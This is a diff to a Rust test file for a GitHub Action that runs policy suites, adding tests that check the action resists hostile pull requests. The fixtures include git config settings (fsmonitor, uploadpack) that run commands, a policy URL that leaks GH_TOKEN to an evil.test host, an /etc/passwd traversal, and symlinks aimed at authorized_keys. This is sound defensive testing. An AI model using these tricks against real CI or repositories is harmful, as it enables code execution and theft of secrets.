@@ -195,10 +195,25 @@ fn the_shards_of_the_documentation_are_merged_into_one_verdict() {
 
 #[test]
 fn nothing_is_pushed_from_a_pull_request() {
-    for event in ["pull_request", "pull_request_target"] {
+    for event in [
+        "pull_request",
+        "pull_request_target",
+        "pull_request_review",
+        "pull_request_review_comment",
+        "issue_comment",
+        "workflow_run",
+        "merge_group",
+    ] {
         script(&Repository::new(), "check.sh", &[("IN_PUSH", "true"), ("GITHUB_EVENT_NAME", event)])
             .exits_with(2)
             .says(&[&format!("nothing is pushed on the event `{event}`")]);
+    }
+    for (protected, code) in [("true", 0), ("false", 2)] {
+        let event = [("GITHUB_EVENT_NAME", "workflow_dispatch"), ("GITHUB_REF_PROTECTED", protected)];
+        script(&Repository::new(), "check.sh", &[&event[..], &[("IN_PUSH", "true")]].concat()).exits_with(code);
+    }
+    for event in ["push", "release", "schedule"] {
+        script(&Repository::new(), "check.sh", &[("IN_PUSH", "true"), ("GITHUB_EVENT_NAME", event)]).exits_with(0);
     }
     for (input, value, message) in [
         ("IN_FAIL_ON", "none", "only what passed is pushed"),
@@ -234,6 +249,11 @@ fn existing_registry_login_is_kept() {
 
 /// One of the scripts, as a step of the action would run it, with these inputs beside the usual ones.
 fn script(repository: &Repository, name: &str, inputs: &[(&str, &str)]) -> crate::support::Finished {
+    script_in(repository, "", name, inputs)
+}
+
+/// The same in a folder of the repository.
+fn script_in(repository: &Repository, folder: &str, name: &str, inputs: &[(&str, &str)]) -> crate::support::Finished {
     let usual = [
         ("IN_ANNOTATIONS", "true"),
         ("IN_SUMMARY", "true"),
@@ -267,6 +287,7 @@ fn script(repository: &Repository, name: &str, inputs: &[(&str, &str)]) -> crate
         .env("GITHUB_OUTPUT", repository.path("outputs"))
         .env("GITHUB_PATH", repository.path("paths"))
         .env("RUNNER_TEMP", temp)
+        .directory(folder)
         .run()
 }
 
@@ -422,15 +443,177 @@ fn another_version_than_the_one_asked_for_is_refused() {
 }
 
 #[test]
-fn a_source_build_is_made_once() {
+fn a_source_build_is_made_once_and_never_found() {
     let cargo = "for word; do root=$word; done; mkdir -p \"$root/bin\"; \
                  printf '#!/bin/sh\\necho verify 0\\n' > \"$root/bin/verify\"; chmod +x \"$root/bin/verify\"; pwd > \"$root/where\"";
     let (repository, path) = with_tools(Repository::new(), &[("cargo", cargo)]);
-    for message in ["verify 0", "verify was built in an earlier run"] {
-        script(&repository, "install.sh", &[("ACTION_VERSION", "source"), ("PATH", &path)])
-            .exits_with(0)
-            .says(&[message]);
+    let install = |cache_hit: &str| {
+        let inputs = [("ACTION_VERSION", "source"), ("PATH", path.as_str()), ("CACHE_HIT", cache_hit)];
+        script(&repository, "install.sh", &inputs)
+    };
+    let planted = "runner temp/policy-verify-source/bin/verify";
+    let plant = || {
+        use std::os::unix::fs::PermissionsExt;
+
+        std::fs::create_dir_all(repository.path(planted).parent().unwrap()).unwrap();
+        std::fs::write(repository.path(planted), "#!/bin/sh\necho planted\n").unwrap();
+        std::fs::set_permissions(repository.path(planted), std::fs::Permissions::from_mode(0o755)).unwrap();
+    };
+    for cache_hit in ["", "false"] {
+        plant();
+        install(cache_hit).exits_with(0).says(&["verify 0"]).never_says("planted").never_says("earlier run");
     }
     let built_in = repository.read("runner temp/policy-verify-source/where");
     assert_eq!(built_in.trim(), project().canonicalize().unwrap().to_str().unwrap());
+    install("true").exits_with(0).says(&["verify was built in an earlier run", "verify 0"]);
+    // What lies there before the cache is restored is gone.
+    plant();
+    script(&repository, "check.sh", &[("IN_VERSION", "source")]).exits_with(0);
+    assert!(!repository.path(planted).exists());
+}
+
+/// Every argument of every call of `jq` is written down.
+#[test]
+fn credentials_are_in_no_arguments() {
+    let Some(jq) = program("jq") else { return };
+    let jq = format!("printf '%s\\n' \"$@\" >> \"$RUNNER_TEMP/arguments\"; exec '{}' \"$@\"", jq.display());
+    let (repository, path) = with_tools(Repository::new(), &[("jq", &jq)]);
+    let config = r#"{"auths":{"other.io":{"auth":"b3RoZXI6c2VjcmV0"}},"x":"s3cret"}"#;
+    let repository = repository.write("docker/config.json", config);
+    let folder = repository.path("docker");
+    let inputs = [
+        ("DOCKER_CONFIG", folder.to_str().unwrap()),
+        ("GH_TOKEN", "t0ken"),
+        ("IN_REGISTRY_USERNAME", "me"),
+        ("PATH", path.as_str()),
+    ];
+    script(&repository, "login.sh", &inputs).exits_with(0);
+    let arguments = repository.read("runner temp/arguments");
+    for secret in ["b3RoZXI6c2VjcmV0", "s3cret", "t0ken", "bWU6dDBrZW4="] {
+        assert!(!arguments.contains(secret), "{arguments}");
+    }
+    let after = repository.read_json("docker/config.json");
+    assert_eq!((&after["x"], &after["auths"]["ghcr.io"]["auth"]), (&json!("s3cret"), &json!("bWU6dDBrZW4=")));
+}
+
+#[test]
+fn the_run_gets_no_token_but_those_that_are_named() {
+    let (repository, path) = with_tools(Repository::new(), &[("verify", "env")]);
+    let tokens = [("GH_TOKEN", "t0ken"), ("GITHUB_TOKEN", "t0ken"), ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "t0ken")];
+    let usual = [
+        ("IN_SUITE", "suite.yml"),
+        ("IN_FILTER", ""),
+        ("IN_TAGS", ""),
+        ("IN_VARS", ""),
+        ("IN_PARTITION", ""),
+        ("PATH", path.as_str()),
+    ];
+    let run = |allowed: &str| {
+        let inputs = [&tokens[..], &usual, &[("IN_ALLOW_ENV", allowed)]].concat();
+        script(&repository, "run.sh", &inputs).exits_with(0)
+    };
+    run("").never_says("t0ken");
+    run("OTHER\nTAG").never_says("t0ken");
+    let stdout = run("TAG, GITHUB_TOKEN").stdout;
+    assert_eq!(stdout.matches("t0ken").count(), 1, "{stdout}");
+    let merge = [&tokens[..], &usual, &[("IN_MERGE", "part.json")]].concat();
+    script(&repository, "run.sh", &merge).exits_with(0).never_says("t0ken");
+}
+
+/// A folder that git takes for a bare repository, whose settings run a command.
+fn planted_repository(repository: Repository, folder: &str) -> Repository {
+    let config = "[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tfsmonitor = touch pwned-by-fsmonitor\n\
+                  \thooksPath = hooks\n[remote \"origin\"]\n\turl = .\n\tpromisor = true\n\
+                  \tuploadpack = touch pwned-by-uploadpack;\n[extensions]\n\tpartialClone = origin\n";
+    let write = |repository: Repository, path: &str, text: &str| repository.write(&format!("{folder}/{path}"), text);
+    let repository = write(repository, "HEAD", "ref: refs/heads/main\n");
+    let repository = write(repository, "config", config);
+    let repository = write(repository, "refs/heads/main", "1111111111111111111111111111111111111111\n");
+    write(repository, "objects/info/.keep", "")
+}
+
+#[test]
+fn files_of_a_pull_request_are_named_without_running_its_git() {
+    let (repository, path) =
+        with_tools(Repository::new(), &[("gh", "echo \"gh in $(pwd) with ${GH_TOKEN:-none}\" >&2; echo from-gh")]);
+    std::fs::remove_dir_all(repository.path(".git")).unwrap();
+    // The checkout itself is such a folder, and so is one below.
+    let repository = planted_repository(planted_repository(repository, "."), "policies/foo");
+    let workspace = repository.path("").canonicalize().unwrap();
+    for folder in ["", "policies/foo"] {
+        let inputs = [
+            ("GITHUB_WORKSPACE", workspace.to_str().unwrap()),
+            ("GITHUB_EVENT_NAME", "pull_request"),
+            ("GITHUB_REPOSITORY", "acme/p"),
+            ("PULL_REQUEST", "7"),
+            ("GH_TOKEN", "t0ken"),
+            ("PATH", path.as_str()),
+        ];
+        let run = script_in(&repository, folder, "changes.sh", &inputs).exits_with(0);
+        run.says(&["runner temp with t0ken"]);
+        let outputs = repository.read("outputs");
+        let file = outputs.lines().rev().find_map(|line| line.strip_prefix("file=")).unwrap();
+        assert_eq!(std::fs::read_to_string(file).unwrap(), "from-gh\n");
+    }
+    let planted = std::process::Command::new("find").arg(&workspace).args(["-name", "pwned*"]).output().unwrap();
+    assert!(planted.stdout.is_empty(), "{planted:?}");
+}
+
+/// A repository of a stranger: what it tries at once, through the whole action.
+#[test]
+fn a_hostile_repository_gets_nothing() {
+    use std::os::unix::fs::symlink;
+
+    let Some(act) = Act::new() else { return };
+    let outside = tempfile::tempdir().unwrap();
+    let keys = outside.path().join("authorized_keys");
+    std::fs::write(&keys, "kept").unwrap();
+    let workflow = workflow(
+        "          working-directory: policies/foo\n          suite: suite.yml\n          allow-env: TAG\n          \
+         reports: |\n            junit=out/report.xml",
+    );
+    let workflow = workflow.replace("    runs-on", "    env: { TAG: job-secret, OTHER: job-secret }\n    runs-on");
+    let suite = |name: &str, uri: &str| {
+        format!(
+            "version: 1\nname: s\npolicies: {{ yes: {{ uri: '{uri}' }} }}\ncases:\n  - {{ name: 'a {name}', object: {POD}, expect: allow }}\n"
+        )
+    };
+    let event = json!({
+        "repository": { "full_name": "acme/p" },
+        "pull_request": { "number": 7, "head": { "repo": { "full_name": "evil/p" } } },
+    });
+    for (name, uri, link, says) in [
+        ("${env:GITHUB_TOKEN}", "yes.wasm", None, "the environment variable `GITHUB_TOKEN` is not allowed"),
+        ("${env:OTHER}", "yes.wasm", None, "the environment variable `OTHER` is not allowed"),
+        ("${env:OTHER:-x}", "yes.wasm", None, "the environment variable `OTHER` is not allowed"),
+        ("${env:TAG}", "yes.wasm", None, "the pull request of the fork `evil/p`"),
+        ("x", "https://${env:GH_TOKEN}.evil.test/p.wasm", None, "the environment variable `GH_TOKEN` is not allowed"),
+        ("x", "../../../../etc/passwd", None, "outside the repository"),
+        ("x", "yes.wasm", Some("out"), "outside the repository"),
+        ("x", "yes.wasm", Some("out/report.xml"), "outside the repository"),
+    ] {
+        let repository = Repository::new().write("policies/foo/suite.yml", suite(name, uri));
+        let repository = repository.replying("policies/foo/yes", r#"{"valid":true,"accepted":true}"#);
+        let repository = repository.write(".github/workflows/verify.yml", &workflow);
+        let repository = planted_repository(repository, "policies/foo");
+        if let Some(link) = link {
+            let path = repository.path("policies/foo").join(link);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            let target = if link.ends_with("xml") { keys.clone() } else { outside.path().to_owned() };
+            symlink(target, path).unwrap();
+        }
+        let log = act.run(&repository, "pull_request", &event);
+        let Log(finished) = log;
+        let finished = finished.never_says("job-secret").never_says("secret-token").never_says("root:x:");
+        let plain = finished.stdout.replace(['\n', '|'], " ");
+        let words: Vec<&str> = plain.split_whitespace().collect();
+        let wanted: Vec<&str> = says.split_whitespace().collect();
+        let has = wanted.iter().all(|word| words.contains(word));
+        assert!(has, "{says}\n{finished}");
+        finished.exits_with(1);
+        let planted = repository.shell("find . -name 'pwned*'").run();
+        assert_eq!(planted.stdout, "");
+    }
+    assert_eq!(std::fs::read_to_string(&keys).unwrap(), "kept");
+    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 1);
 }
